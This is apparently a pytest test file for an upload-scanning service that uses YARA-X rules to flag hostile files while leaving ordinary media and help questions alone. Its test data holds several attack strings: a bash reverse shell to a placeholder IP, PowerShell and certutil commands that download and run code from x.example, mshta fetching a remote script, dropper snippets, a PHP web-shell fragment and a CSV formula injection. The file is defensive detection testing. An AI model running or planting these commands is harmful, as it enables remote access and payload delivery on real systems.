"""Rules: what no customer sends is found without a daemon, and nobody who sends a letter is accused."""

from __future__ import annotations

import io
import struct
import time
import zipfile
from pathlib import Path

import pytest
import yara_x
from structlog.testing import capture_logs

from tests import files
from tests.checks.looking import looked_at
from tests.checks.specimens import EICAR, SID, specimen, stored
from tests.files.office import word_document
from tests.files.papers import packed, paper
from tests.files.plain_papers import PLAIN
from tests.media.conftest import open_media_house
from vestibule.checks import rules
from vestibule.checks.policies.reading import read
from vestibule.checks.rules import OWN, PIECE, WHOLE, RulesCheck, RuleSet
from vestibule.checks.sandbox import Sandbox
from vestibule.config import Settings
from vestibule.errors import ConfigurationError, MediaRefused
from vestibule.gatehouse import build_gate
from vestibule.http import Metrics
from vestibule.storage.objects import ObjectStorage

OURS = RuleSet.compiled()


def windows_program() -> bytes:
    stub = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 128) + bytes(64)
    return stub + b"PE\0\0\x64\x86" + bytes(200)


def zip_of(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return file.getvalue()


PICTURE = files.webp()
ENCODED = "QQBh" * 20
HOSTILE = {
    "the test virus": (EICAR, "text/plain", "infected"),
    "the test virus in a picture": (PICTURE + EICAR, "image/webp", "infected"),
    "the test virus in a recording": (b"ID3\x03" + EICAR + bytes(99), "audio/mpeg", "infected"),
    "a Windows program": (PICTURE + windows_program(), "image/webp", "refused"),
    "a Linux program": (
        PICTURE + b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00",
        "image/webp",
        "refused",
    ),
    "a Mac program": (
        PICTURE + b"\xcf\xfa\xed\xfe\x0c\x00\x00\x01\x00\x00\x00\x00\x02\x00\x00\x00",
        "image/webp",
        "refused",
    ),
    "a Java class": (
        PICTURE + b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10\x0a..java/lang/Object",
        "image/webp",
        "refused",
    ),
    "WebAssembly": (PICTURE + b"\x00asm\x01\x00\x00\x00\x01", "image/webp", "refused"),
    "a shortcut": (
        PICTURE + b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F",
        "image/webp",
        "refused",
    ),
    "an archive behind a picture": (PICTURE + zip_of(("a.txt", b"hello")), "image/webp", "refused"),
    "a page behind a picture": (PICTURE + b"<SCRIPT src=x></SCRIPT>", "image/webp", "refused"),
    "a server's script behind a picture": (PICTURE + b"<?php system($_GET[0]);", "image/webp", "refused"),
    "a hidden command": (f"powershell -nop -w hidden -enc {ENCODED}", "text/plain", "infected"),
    "a hidden command in UTF-16": (
        f"powershell.exe -EncodedCommand {ENCODED}".encode("utf-16"),
        "text/plain",
        "infected",
    ),
    "a fetched command": (
        "powershell -w hidden iex (New-Object Net.WebClient).DownloadString('http://x.example/a')",
        "text/plain",
        "suspicious",
    ),
    "a dropper in VBScript": (
        'Set s = CreateObject("WScript.Shell")\nSet x = CreateObject("MSXML2.XMLHTTP")\ns.Run "a.exe"',
        "text/plain",
        "infected",
    ),
    "a dropper in JScript": (
        'var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c calc.exe", 0);',
        "text/plain",
        "infected",
    ),
    "a batch that fetches": (
        "@echo off\r\ncertutil -urlcache -split -f http://x.example/a.exe a.exe\r\nstart a.exe\r\n",
        "text/plain",
        "infected",
    ),
    "a script from the network": ("mshta http://x.example/a.hta", "text/plain", "infected"),
    "a shell for somebody else": ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "text/plain", "suspicious"),
    "a page that makes a file": (
        "hello\n<script>var b = new Blob([Uint8Array.from(atob(x))]); a.download = 'x'; a.click()</script>",
        "text/plain",
        "infected",
    ),
    "a cell that starts a program": ("a,=cmd|' /C calc'!A0", "text/csv", "suspicious"),
    "macros that start by themselves": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99) + "_VBA_PROJECT".encode("utf-16-le"),
        "application/msword",
        "refused",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
async def test_what_no_customer_sends_is_found(name: str, tmp_path: Path) -> None:
    content, content_type, outcome = HOSTILE[name]
    content = content.encode() if isinstance(content, str) else content
    async with looked_at(RulesCheck(OURS), tmp_path, content, content_type) as seen:
        assert seen.finding.verdict.outcome == outcome, seen.finding
        assert ": " in seen.finding.verdict.detail


BENIGN = {
    "jpeg": (files.jpeg_with_gps, "image/jpeg"),
    "png": (files.png_with_text, "image/png"),
    "gif": (files.gif_animated, "image/gif"),
    "heic": (files.heic, "image/heic"),
    "photo": (files.photo_12_megapixels, "image/jpeg"),
    "pdf": (files.pdf, "application/pdf"),
    "mp4": (files.mp4, "video/mp4"),
    "webm": (files.webm, "video/webm"),
    "mp3": (files.mp3, "audio/mpeg"),
    "wav": (files.wav, "audio/wav"),
    "flac": (files.flac, "audio/flac"),
}


@pytest.mark.parametrize("name", BENIGN)
async def test_nobody_is_accused_of_an_ordinary_file(name: str, tmp_path: Path) -> None:
    make, content_type = BENIGN[name]
    async with looked_at(RulesCheck(OURS), tmp_path, make(), content_type) as seen:
        assert seen.outcome == ("clean", ""), seen.finding


@pytest.mark.parametrize("name", PLAIN)
async def test_nobody_is_accused_of_an_ordinary_paper(name: str, tmp_path: Path) -> None:
    async with looked_at(RulesCheck(OURS), tmp_path, PLAIN[name](), "application/pdf") as seen:
        assert seen.outcome == ("clean", ""), seen.finding


WORDS = [
    "How do I run powershell -Command Get-Date? It says execution policy.",
    "We use certutil to look at certificates; then we start again.",
    'I copied <script src="x.js"></script> from your page and <?php echo 1 ?> too.',
    "The installer says: Invoke-WebRequest failed, please start the download again.",
    "My WScript.Shell object is null, and MSXML2.XMLHTTP as well.",
    "a;b\n=SUM(A1:A9);-5\n+49 30 1234;x | y",
    "nc -l 80; bash -i is interactive",
]


@pytest.mark.parametrize("text", WORDS)
async def test_nobody_is_accused_of_asking_about_a_command(text: str, tmp_path: Path) -> None:
    async with looked_at(RulesCheck(OURS), tmp_path, text.encode(), "text/plain") as seen:
        assert seen.outcome == ("clean", ""), seen.finding


async def test_real_files_of_installed_packages_raise_no_alarm() -> None:
    """Documents, pictures and texts that other people made."""
    looked = 0
    for file in sorted(Path(yara_x.__file__).parents[1].rglob("*"))[::7]:
        kind = {".png": "image", ".pdf": "pdf", ".txt": "text", ".md": "text", ".csv": "text"}.get(
            file.suffix
        )
        if kind and file.is_file():
            found = OURS.scan(str(file), {"family": kind}, 10)
            assert not found, (file, found)
            looked += 1
    assert looked > 20


async def test_bytes_that_lie_on_another_machine_are_looked_through_as_well(tmp_path: Path) -> None:
    storage = ObjectStorage("memory://")
    folder = await stored(tmp_path, b"x" * 100 + EICAR)
    await storage.put(f"quarantine/{SID}/original", folder.get(f"quarantine/{SID}/original"))
    finding = await RulesCheck(OURS)(specimen(EICAR), storage)
    assert finding.verdict.outcome == "infected"


HIDDEN = {
    "letter.txt": EICAR,
    "letter.zip": zip_of(("letter.txt", EICAR)),
    "letter.docx": word_document().part("word/media/a.jpg", files.jpeg_with_gps()[:-2] + EICAR).written(),
    "letter.pdf": paper(more=[packed(EICAR)]),
}


@pytest.mark.parametrize("filename", HIDDEN)
async def test_a_house_without_a_virus_scanner_refuses_the_test_virus(filename: str, tmp_path: Path) -> None:
    settings = Settings()
    async with Sandbox() as sandbox:
        own = build_gate(settings, read(), sandbox, None, Metrics())
        house = await open_media_house(tmp_path, streams=(), checks=own.checks, rebuilt=own.rebuilt)
        with pytest.raises(MediaRefused, match="virus scanner"):
            await house.upload(HIDDEN[filename], filename)
        assert house.bytes_on_disk() == []
        await house.house.close()


# Rules of the operator's own


def own(folder: Path, text: str, name: str = "own.yar") -> RuleSet:
    (folder / name).write_text(text)
    return RuleSet.compiled((folder / name,))


def rule(meta: str = "", condition: str = "$a", name: str = "own") -> str:
    meta = f"meta: {meta} " if meta else ""
    return f'rule {name} {{ {meta}strings: $a = "parcel" condition: {condition} }}\n'


@pytest.mark.parametrize(
    ("meta", "outcome"),
    [
        ("", ("refused", "rule")),
        ('outcome = "infected"', ("infected", "infected")),
        ('outcome = "suspicious"', ("suspicious", "check_pending")),
        ('outcome = "refused" reason = "active_content" author = "me"', ("refused", "active_content")),
    ],
)
async def test_a_rule_of_the_operator_decides(meta: str, outcome: tuple[str, str], tmp_path: Path) -> None:
    check = RulesCheck(own(tmp_path, rule(meta)))
    async with looked_at(check, tmp_path / "files", b"a parcel", "text/plain") as seen:
        assert seen.outcome == outcome
        assert "own" in seen.finding.verdict.detail
        assert "yara-x" in seen.finding.verdict.version


async def test_a_rule_may_ask_what_the_file_is(tmp_path: Path) -> None:
    asks = '$a and content_type == "text/plain" and extension == "pdf" and filename == "file.pdf"'
    check = RulesCheck(own(tmp_path, rule(condition=asks)))
    storage = await stored(tmp_path / "files", b"a parcel")
    verdicts = [(await check(specimen(b"a parcel", name), storage)).verdict for name in ("file.pdf", "b.pdf")]
    assert [verdict.outcome for verdict in verdicts] == ["refused", "clean"]


async def test_of_several_rules_the_worst_decides_and_all_are_named(tmp_path: Path) -> None:
    text = rule('outcome = "suspicious"', name="mild") + rule(
        'outcome = "infected" why = "Ticks."', name="bad"
    )
    check = RulesCheck(own(tmp_path, text))
    async with looked_at(check, tmp_path / "files", b"a parcel", "text/plain") as seen:
        assert seen.finding.verdict.outcome == "infected"
        assert seen.finding.verdict.detail == "bad: Ticks.; mild"


def test_a_folder_of_rules_is_taken_whole_and_counts_in_the_version(tmp_path: Path) -> None:
    own(tmp_path, rule(), "a.yar")
    first = own(tmp_path, rule(), "b.yara")  # the same name in another file
    (tmp_path / "notes.txt").write_text("no rule")
    both = RuleSet.compiled((tmp_path,))
    assert len({OURS.digest, first.digest, both.digest}) == 3
    assert RuleSet.compiled((tmp_path,)).digest == both.digest


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("rule broken { condition: $b }", r"own\.yar:1:\d+"),
        ("\n\nrule broken {", r"own\.yar:3:\d+"),
        ('include "/etc/passwd"', r"own\.yar:1"),
        (rule('outcome = "clean"'), "'own': its outcome is one of infected"),
        (rule("outcome = 5"), "'own': its outcome is one of infected"),
        (rule('reason = "dislike"'), "'own': there is no reason 'dislike'"),
    ],
)
def test_a_rule_that_makes_no_sense_stops_the_start(text: str, told: str, tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text(text)
    settings = Settings(rules=(str(tmp_path / "own.yar"),))
    with pytest.raises(ConfigurationError, match=told):
        build_gate(settings, read(), Sandbox(), None, Metrics())


def test_rules_that_are_not_there_stop_the_start(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match=r"missing\.yar cannot be read"):
        RuleSet.compiled((tmp_path / "missing.yar",))
    with pytest.raises(ConfigurationError, match="has no rules"):
        RuleSet.compiled((tmp_path,))


def test_a_slow_rule_is_told_in_the_log(tmp_path: Path) -> None:
    with capture_logs() as logs:
        own(tmp_path, "rule slow { strings: $a = /a.*/ condition: $a }")
    assert [entry["file"] for entry in logs] == [str(tmp_path / "own.yar")]


async def test_a_rule_that_does_not_end_is_cut_off_and_opens_nothing(tmp_path: Path) -> None:
    endless = "for all i in (0..100000000000) : ( i >= 0 and #a == 1 )"
    check = RulesCheck(own(tmp_path, rule(condition=endless)), scan_seconds=1)
    began = time.monotonic()
    async with looked_at(check, tmp_path / "files", b"a parcel", "text/plain") as seen:
        assert seen.outcome == ("timeout", "check_failed")
        assert time.monotonic() - began < 5


class Panic(BaseException):
    """As YARA-X's own panics, no `Exception`."""


@pytest.mark.parametrize("error", [Panic("at the disco"), ValueError("no"), yara_x.ScanError("no")])
async def test_a_scan_that_breaks_opens_nothing(
    error: BaseException, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(compiled: object) -> None:
        raise error

    monkeypatch.setattr(rules.yara_x, "Scanner", broken)
    async with looked_at(RulesCheck(OURS), tmp_path, b"hello", "text/plain") as seen:
        assert seen.outcome == ("error", "check_failed")


def test_no_scanner_raises_an_alarm_about_our_own_rules() -> None:
    for file in OWN.glob("*.yar"):
        assert not OURS.scan(str(file), {"family": "text"}, 10)
        assert EICAR not in file.read_bytes()


def test_every_rule_of_ours_says_what_it_does_and_why() -> None:
    for one in OURS.rules:
        said = dict(one.metadata)
        assert one.identifier == "picture_or_recording" or {"outcome", "reason", "why"} <= said.keys()


async def test_a_large_file_takes_little_time_and_memory(tmp_path: Path) -> None:
    content = b"2026-11-24 INFO worker -- request=/v1/x?a=1; time=20ms, user@example.com\r\n" * 250_000
    async with looked_at(RulesCheck(OURS), tmp_path, content, "text/plain") as seen:
        assert seen.outcome == ("clean", "")


@pytest.mark.parametrize("at", [0, PIECE - 30, 3 * PIECE + 17, WHOLE + PIECE])
def test_what_is_looked_for_is_found_wherever_it_lies_in_a_large_file(tmp_path: Path, at: int) -> None:
    file = tmp_path / "large"
    with file.open("wb") as large:
        large.truncate(WHOLE + 2 * PIECE)
        large.seek(at)
        large.write(EICAR)
    [(_, meaning)] = RuleSet.compiled().scan(str(file), {}, 5)
    assert meaning.outcome == "infected"
